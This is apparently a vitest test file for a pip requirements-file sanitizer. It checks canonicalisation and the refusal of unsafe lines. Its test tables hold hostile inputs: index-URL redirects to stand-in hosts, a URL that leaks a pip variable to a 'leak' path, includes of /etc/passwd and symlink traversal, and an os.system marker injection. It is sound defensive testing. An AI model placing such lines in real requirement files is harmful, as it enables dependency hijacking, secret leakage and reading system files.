/**
 * The requirement-file parser (lib/builds/requirements.ts): what it accepts and how it rewrites it, what it
 * refuses with the file, line number and escaped line, and which lines it reports as needing a build step.
 */
import { describe, expect, it } from "vitest";
import { checkMarker, logicalLines } from "../../lib/builds/pep508.ts";
import {
  MAX_DEPTH,
  type RequirementEntry,
  refuseBuildSteps,
  sanitizeRequirements,
} from "../../lib/builds/requirements.ts";
import { BuildError, ConfigError } from "../../lib/common/errors.ts";

type Files = Record<string, string | { link: string }>;

function folder(files: Files) {
  const entries: RequirementEntry[] = Object.entries(files).map(([path, v]) =>
    typeof v === "string" ? { path, kind: "file" } : { path, kind: "symlink", target: v.link },
  );
  const read = async (path: string) => {
    const v = files[path];
    if (typeof v !== "string") throw new Error(`read of ${path}`);
    return Buffer.from(v);
  };
  return { folder: "layers/py", entries, read };
}

async function sanitize(text: string, more: Files = {}) {
  return sanitizeRequirements(folder({ "requirements.txt": text, ...more }));
}

async function refusal(text: string, more: Files = {}): Promise<ConfigError> {
  const error = await sanitize(text, more).catch((e: unknown) => e);
  expect(error).toBeInstanceOf(ConfigError);
  expect((error as Error).message).not.toMatch(/\n/);
  return error as ConfigError;
}

describe("a requirement file", () => {
  it("keeps PEP 508 requirements with extras, specifiers, markers and hashes, in canonical form", async () => {
    const s = await sanitize(
      [
        "# pinned",
        "PyYAML==6.0.2 \\",
        "    --hash=sha256:ABCDEF0123 \\",
        "    --hash=sha256:0123abcd",
        "requests[socks, security] >= 2.31, < 3  # comment",
        'orjson==3.10.7; platform_machine == "x86_64"',
        "ujson==5.10.0 ; platform_machine=='aarch64' and (python_version >= '3.9' or sys_platform != \"win32\")",
        "legacy (>=1.0)",
        "",
        "--require-hashes",
        "--only-binary=:all:",
        "--prefer-binary",
        "--pre",
      ].join("\n"),
    );
    expect(s.files.get("requirements.txt")).toBe(
      [
        "PyYAML==6.0.2 --hash=sha256:abcdef0123 --hash=sha256:0123abcd",
        "requests[socks,security]>=2.31,<3",
        'orjson==3.10.7; platform_machine == "x86_64"',
        "ujson==5.10.0; platform_machine == 'aarch64' and (python_version >= '3.9' or sys_platform != \"win32\")",
        "legacy>=1.0",
        "--require-hashes",
        "--only-binary=:all:",
        "--prefer-binary",
        "--pre",
        "",
      ].join("\n"),
    );
    expect(s.requirements).toBe(5);
    expect(s.buildSteps).toEqual([]);
  });

  it("reads a file that starts with a byte order mark or has CRLF line ends", async () => {
    const s = await sanitize("\uFEFFsix==1.17.0\r\nattrs\r\n");
    expect(s.files.get("requirements.txt")).toBe("six==1.17.0\nattrs\n");
  });

  it("joins continuation lines as pip does and numbers each logical line by its first line", () => {
    expect(logicalLines("a \\\n  b\n# c \\\nd\r\ne\\")).toEqual([
      [1, "a   b"],
      [3, " # c \\"],
      [4, "d"],
      [5, "e"],
    ]);
  });

  it("checks environment markers against PEP 508", () => {
    expect(checkMarker(' python_full_version >= "3.12"')).toBe('python_full_version >= "3.12"');
    expect(checkMarker("'linux' in sys_platform")).toBe("'linux' in sys_platform");
    expect(checkMarker("extra not  in 'a'")).toBe("extra not in 'a'");
    expect(checkMarker("os.system('x') == '1'")).toBeNull();
    expect(checkMarker("python_version >= ")).toBeNull();
    expect(checkMarker("(python_version >= '3'")).toBeNull();
  });

  it("reads -r and -c files of the folder with the same rules, by their real path", async () => {
    const s = await sanitize("-r reqs/base.txt\n-c constraints.txt\nsix\n", {
      "reqs/base.txt": "-r ../reqs/more.txt\nattrs==24.2.0 # base\n",
      "reqs/more.txt": "idna==3.10\n",
      "constraints.txt": { link: "reqs/pins.txt" },
      "reqs/pins.txt": "six==1.17.0\n",
    });
    expect([...s.files]).toEqual([
      ["requirements.txt", "-r ./reqs/base.txt\n-c ./reqs/pins.txt\nsix\n"],
      ["reqs/base.txt", "-r ./more.txt\nattrs==24.2.0\n"],
      ["reqs/more.txt", "idna==3.10\n"],
      ["reqs/pins.txt", "six==1.17.0\n"],
    ]);
  });

  it("refuses a refused line inside an included file, naming that file and line", async () => {
    const e = await refusal("six\n-r base.txt\n", { "base.txt": "attrs\n\n--extra-index-url https://evil/x\n" });
    expect(e.message).toMatch(
      /^layers\/py\/base\.txt line 3: "--extra-index-url https:\/\/evil\/x" uses --extra-index-url/,
    );
  });
});

describe("a refused line", () => {
  it.each([
    ["--index-url https://evil/simple", "--index-url"],
    ["-i https://evil/simple", "--index-url"],
    ["-ihttps://evil/simple", "--index-url"],
    ["--extra-index-url=http://127.0.0.1:9/leak/", "--extra-index-url"],
    ["--find-links /tmp/wheels", "--find-links"],
    ["-f https://evil/", "--find-links"],
    ["--trusted-host evil", "--trusted-host"],
    ["--no-index", "--no-index"],
    ["six --index-url https://evil/", "--index-url"],
  ])("%s changes where packages come from: exit 2, naming the line", async (line, option) => {
    const e = await refusal(`six\n\n${line}\n`);
    expect(e.message).toContain(`layers/py/requirements.txt line 3: ${JSON.stringify(line)} uses ${option}`);
    expect(e.message).toContain("BUILD_PIP_INDEX_URL");
  });

  it.each([
    // biome-ignore lint/suspicious/noTemplateCurlyInString: pip's variable syntax is the point
    "--extra-index-url http://127.0.0.1:9/leak/${PIP_INDEX_URL}/",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: pip's variable syntax is the point
    "six==${VERSION}",
    "six; python_version > '$HOME'",
  ])("%s uses a variable pip would expand", async (line) => {
    const e = await refusal(`${line}\n`);
    expect(e.message).toMatch(/^layers\/py\/requirements\.txt line 1: .* uses a variable/);
  });

  it.each([
    ["-r /etc/hostname", "outside the folder"],
    ["-r ../../other/requirements.txt", "outside the folder"],
    ["--requirement=/etc/passwd", "outside the folder"],
    ["-c /etc/hostname", "outside the folder"],
    ["-r escape.txt", "outside the folder"],
    ["-r missing.txt", "does not have"],
    ["-r requirements.txt", "includes itself"],
  ])("%s reads no file outside the folder", async (line, why) => {
    const e = await refusal(`${line}\n`, { "escape.txt": { link: "../../../etc/hostname" } });
    expect(e.message).toContain(`line 1: ${JSON.stringify(line)}`);
    expect(e.message).toContain(why);
  });

  it.each([
    ["file:///etc/x.whl", "file: URL"],
    ["pkg @ file:///tmp/pkg", "file: URL"],
    ["/opt/pkg", "outside the folder"],
    ["../pkg", "outside the folder"],
    ["-e ../pkg", "outside the folder"],
  ])("%s names a host path: refused whatever the builder", async (line, why) => {
    const e = await refusal(`${line}\n`);
    expect(e.message).toContain(why);
  });

  it.each([
    "--use-feature=fast-deps",
    "--global-option=--x",
    "six --config-settings=a=b",
    "--hash=sha256:00",
    "six --hash=md5:00",
    "not a requirement at all",
    "six; os.system('id') == '0'",
  ])("%s is not an accepted form", async (line) => {
    await refusal(`${line}\n`);
  });

  it("is escaped and truncated in the message", async () => {
    const e = await refusal(`--index-url https://x/\x1b[31m${"a".repeat(300)}\n`);
    expect(e.message).toContain("\\x1b[31m");
    expect(e.message).not.toContain("\x1b");
    expect(e.message).toContain("a…");
    expect(e.message.length).toBeLessThan(400);
  });

  it("is named even in a file nested as deep as allowed, and deeper nesting is refused", async () => {
    const files: Files = {};
    for (let i = 0; i <= MAX_DEPTH; i++) files[`r${i}.txt`] = `-r r${i + 1}.txt\n`;
    files[`r${MAX_DEPTH + 1}.txt`] = "six\n";
    const e = await refusal("-r r0.txt\n", files);
    expect(e.message).toContain("deeper than");
  });
});

describe("a line that needs a build step", () => {
  it.each([
    ["./evilpkg", "a local path", "./evilpkg"],
    ["evilpkg/", "a local path", "./evilpkg"],
    ["-e .", "an editable requirement (-e)", "-e ."],
    ["--editable=./evilpkg", "an editable requirement (-e)", "-e ./evilpkg"],
    ["git+file:///srv/repo#egg=x", "a VCS requirement", "git+file:///srv/repo#egg=x"],
    ["x @ git+https://example.com/x.git@v1", "a VCS requirement", "x @ git+https://example.com/x.git@v1"],
    ["https://example.com/x-1.0.tar.gz", "a URL requirement", "https://example.com/x-1.0.tar.gz"],
    ["--no-binary :all:", "--no-binary (source builds)", "--no-binary=:all:"],
  ])("%s is kept for container builders and reported", async (line, why, canonical) => {
    const s = await sanitize(`six\n${line}\n`, { "evilpkg/pyproject.toml": "[build-system]\n" });
    expect(s.files.get("requirements.txt")).toBe(`six\n${canonical}\n`);
    expect(s.buildSteps).toEqual([{ file: "requirements.txt", line: 2, quoted: JSON.stringify(line), why }]);
  });

  it("fails a local build with a BuildError naming the line and the builders that can", async () => {
    const s = await sanitize("six\n./evilpkg\n-e .\n", { "evilpkg/setup.py": "" });
    expect(() => refuseBuildSteps(s, "layers/py", "python3.12 x86_64")).toThrow(BuildError);
    expect(() => refuseBuildSteps(s, "layers/py", "python3.12 x86_64")).toThrow(
      /^layers\/py\/requirements\.txt line 2: "\.\/evilpkg" is a local path, which needs a build step; .*use --builder docker, or let CodeBuild build it \(1 more/,
    );
    const plain = await sanitize("six\n");
    expect(() => refuseBuildSteps(plain, "layers/py", "x")).not.toThrow();
  });
});
